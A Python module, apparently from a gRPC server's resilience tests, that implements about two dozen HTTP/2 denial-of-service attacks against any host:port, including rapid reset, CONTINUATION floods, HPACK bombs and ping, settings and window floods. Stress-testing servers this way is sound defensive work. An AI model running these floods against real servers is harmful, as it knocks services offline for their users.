"""What hostile clients send: each attack takes host:port, runs for as many frames as its `effort` says, and ends.

Sources: CVE-2023-44487 (rapid reset), CVE-2025-8671 (made you reset), CVE-2024-27316 and its kind (CONTINUATION),
CVE-2019-9511 to 9518 (settings, pings, empty frames, windows), RFC 7541 section 7.3 (HPACK bombs).
"""

import os
import socket
import struct
from collections.abc import Callable, Iterable
from contextlib import ExitStack

from neighbours import request
from raw_http2 import (
    PREFACE,
    RawConnection,
    block,
    call_headers,
    frame,
    many,
    message,
    unindexed,
)

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
CANCEL = struct.pack(">I", 8)

HEAD = block(call_headers())
GOOD = message(request(7).SerializeToString())

Attack = Callable[[str, int], None]
ATTACKS: dict[str, Attack] = {}
"""By what they are called."""


def _attack(name: str) -> Callable[[Attack], Attack]:
    def add(attack: Attack) -> Attack:
        ATTACKS[name] = attack
        return attack

    return add


def _flood(connection: RawConnection, parts: Iterable[bytes]) -> None:
    """Sends parts until the server ends the connection."""
    for part in parts:
        if not connection.send(part):
            return


def _started(number: int, *, ends: bool) -> bytes:
    """Returns a good call, its end with it or not."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS, stream, HEAD) + frame(DATA, END_STREAM if ends else 0, stream, GOOD)


@_attack("rapid reset")
def rapid_reset(target: str, effort: int) -> None:
    """Calls that are cancelled in the packet that starts them."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: _started(n, ends=True) + frame(RESET, 0, 2 * n + 1, CANCEL), effort))


@_attack("rapid reset, over and over")
def rapid_reset_on_new_connections(target: str, effort: int) -> None:
    """The same, on a new connection for every 190: fewer than get one ended."""
    for _ in range(effort // 190):
        with RawConnection(target) as connection:
            connection.send(*many(lambda n: _started(n, ends=True) + frame(RESET, 0, 2 * n + 1, CANCEL), 190))


@_attack("made you reset: window")
def made_you_reset_by_a_window(target: str, effort: int) -> None:
    """Calls that the server must reset, since their window is opened by nothing."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: _started(n, ends=True) + frame(WINDOW, 0, 2 * n + 1, bytes(4)), effort))


@_attack("made you reset: data")
def made_you_reset_by_data(target: str, effort: int) -> None:
    """Calls that the server must reset, since they go on after their end."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: _started(n, ends=True) + frame(DATA, 0, 2 * n + 1, b"more"), effort))


@_attack("made you reset: overflow")
def made_you_reset_by_an_overflow(target: str, effort: int) -> None:
    """Calls that the server must reset, since their window grows above 2^31 - 1."""
    most = struct.pack(">I", 2**31 - 1)
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: _started(n, ends=False) + frame(WINDOW, 0, 2 * n + 1, most), effort))


@_attack("CONTINUATION")
def continuation(target: str, effort: int) -> None:
    """Headers without an end."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, 0, 1, HEAD))
        _flood(
            connection,
            many(lambda n: frame(CONTINUATION, 0, 1, unindexed(b"x-%d" % n, bytes(b"v" * 1000))), effort, 10),
        )


@_attack("CONTINUATION, empty")
def empty_continuation(target: str, effort: int) -> None:
    """Headers without an end, in frames of nothing."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, 0, 1, HEAD))
        _flood(connection, many(lambda _: frame(CONTINUATION, 0, 1), effort))


@_attack("HPACK bomb")
def hpack_bomb(target: str, effort: int) -> None:
    """Headers of 4 KB that are named 14,000 times by one byte each: 56 MB from 14 KB."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, HEAD + unindexed(b"x", b"v" * 3900, kept=True)))
        named = HEAD + b"\xbe" * 14_000
        _flood(connection, many(lambda n: frame(HEADERS, END_HEADERS, 2 * n + 3, named), effort // 20, 10))


@_attack("HPACK bomb, small")
def small_hpack_bomb(target: str, effort: int) -> None:
    """Half-open calls with the largest headers that a server takes, from some bytes each."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, HEAD + unindexed(b"x", b"v" * 900, kept=True)))
        named = HEAD + b"\xbe" * 14
        _flood(connection, many(lambda n: frame(HEADERS, END_HEADERS, 2 * n + 3, named), effort // 10))


@_attack("SETTINGS")
def settings(target: str, effort: int) -> None:
    """Settings, each of which is to be acknowledged, and changes every window."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n % 65_536)), effort))


@_attack("SETTINGS, unread")
def unread_settings(target: str, effort: int) -> None:
    """The same from a client that reads no acknowledgement."""
    with RawConnection(target, reads=False, receive_buffer_bytes=4096) as connection:
        connection.set_timeout(2)
        _flood(connection, many(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n % 65_536)), effort))


@_attack("PING")
def ping(target: str, effort: int) -> None:
    """Pings, each of which is to be answered."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: frame(PING, 0, 0, struct.pack(">Q", n)), effort))


@_attack("PING, unread")
def unread_ping(target: str, effort: int) -> None:
    """The same from a client that reads no answer."""
    with RawConnection(target, reads=False, receive_buffer_bytes=4096) as connection:
        connection.set_timeout(2)
        _flood(connection, many(lambda n: frame(PING, 0, 0, struct.pack(">Q", n)), effort))


@_attack("empty DATA")
def empty_data(target: str, effort: int) -> None:
    """A call whose message is sent in frames of nothing."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, HEAD))
        _flood(connection, many(lambda _: frame(DATA, 0, 1), effort))


@_attack("padded DATA")
def padded_data(target: str, effort: int) -> None:
    """A call whose message is sent in frames of nothing but padding, as fast as its windows open."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, HEAD))
        _flood(connection, many(lambda _: frame(DATA, PADDED, 1, b"\xff" + bytes(255)), effort // 10, 50))


@_attack("PRIORITY")
def priority(target: str, effort: int) -> None:
    """Priorities of streams that are not there."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: frame(PRIORITY, 0, 2 * n + 1, struct.pack(">IB", 0, 1)), effort))


@_attack("unknown frames")
def unknown_frames(target: str, effort: int) -> None:
    """Frames of a kind that is not known, which are to be ignored."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: frame(0xFA, 0xFF, n, bytes(100)), effort))


@_attack("WINDOW_UPDATE")
def window_updates(target: str, effort: int) -> None:
    """A connection's window that grows byte by byte."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda _: frame(WINDOW, 0, 0, struct.pack(">I", 1)), effort))


@_attack("window overflow")
def window_overflow(target: str, effort: int) -> None:
    """A connection's window that grows above 2^31 - 1, on many connections."""
    for _ in range(effort // 500):
        with RawConnection(target) as connection:
            connection.send(frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)))
            # grpcio takes it; that is its affair.
            connection.wait(lambda: connection.has_ended, 0.1)


@_attack("DATA beyond the window")
def data_beyond_the_window(target: str, effort: int) -> None:
    """A message that is sent without regard to the windows."""
    with RawConnection(target) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, HEAD))
        start = frame(DATA, 0, 1, message(b"", declared=1 << 20))
        _flood(connection, [start, *many(lambda _: frame(DATA, 0, 1, bytes(16_384)), effort // 20, 50)])


@_attack("streams beyond the limit")
def streams_beyond_the_limit(target: str, effort: int) -> None:
    """Half-open calls without end, whether refused or not."""
    with RawConnection(target) as connection:
        _flood(connection, many(lambda n: frame(HEADERS, END_HEADERS, 2 * n + 1, HEAD), effort // 2))


@_attack("calls of unknown methods")
def unknown_methods(target: str, effort: int) -> None:
    """Calls of methods that are not there, each under a name of its own."""
    with RawConnection(target) as connection:
        for number in range(effort // 10):
            connection.call(b"", f"/unknown.Service{number}/Method")
            if connection.has_ended:
                return


@_attack("half a connection")
def half_a_connection(target: str, effort: int) -> None:
    """Connections that end within the preface, at any byte, or begin with something else."""
    beginnings = [PREFACE[:size] for size in range(0, len(PREFACE), 3)] + [os.urandom(64), bytes(64), b"\x16\x03\x01"]
    for number in range(effort // 50):
        with socket.create_connection(_address(target)) as connection:
            connection.sendall(beginnings[number % len(beginnings)])


@_attack("reset before accepted")
def reset_before_accepted(target: str, effort: int) -> None:
    """Connections that are reset as soon as they are there."""
    for _ in range(effort // 20):
        with socket.create_connection(_address(target)) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


@_attack("idle connections")
def idle_connections(target: str, effort: int) -> None:
    """Connections that greet and say no more."""
    with ExitStack() as connections:
        for _ in range(effort // 100):
            connection = connections.enter_context(socket.create_connection(_address(target)))
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))


def _address(target: str) -> tuple[str, int]:
    host, _, port = target.rpartition(":")
    return host, int(port)
